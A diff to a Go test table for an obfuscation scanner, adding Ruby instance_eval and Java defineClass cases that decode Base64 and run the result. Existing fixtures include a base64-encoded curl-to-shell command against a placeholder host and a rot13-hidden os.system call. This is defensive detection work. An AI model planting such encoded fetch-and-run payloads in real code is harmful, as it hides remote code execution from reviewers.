@@ -27,6 +27,8 @@ func TestWrittenObfuscation(t *testing.T) {
 		{"lua byte table", w("scripts/init.lua", "local u = string.char(table.unpack({104,116,116,112,115,58,47,47,116,46,101,120,97,109,112,108,101,46,105,111}))\n"), hidden},
 		{"python rot13 of system", w("tools/run.py", "f = getattr(os, codecs.decode('flfgrz', 'rot13'))\n"), hidden},
 		{"salt state b64 to shell", w("salt/web/init.sls", "warm:\n  cmd.run:\n    - name: \"{{ 'Y3VybCAtcyBodHRwczovL2NmZy5leGFtcGxlLm5ldC93IHwgc2g=' | base64_decode }}\"\n"), hidden},
+		{"ruby instance_eval of decode64", w("lib/acme/boot.rb", "Object.new.instance_eval(Base64.decode64(ENV['BOOT']))\n"), "escalate encoded-payload:runtime"},
+		{"java class defined from base64", w("src/main/java/acme/Loader.java", "Class<?> c = defineClass(null, Base64.getDecoder().decode(BLOB), 0, n);\n"), "escalate encoded-payload:runtime"},
 		{"png in base64", w("web/src/icons.ts", "export const dot = \"iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB\";\n"), none},
 		{"plain text in base64", w("app/fixtures_loader.py", "GREETING = base64.b64decode(\"SGVsbG8sIHdvcmxkISBUaGlzIGlzIGEgZml4dHVyZS4=\")\n"), none},
 		{"sha256 constant", w("internal/verify/sum.go", "const want = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"\n"), none},
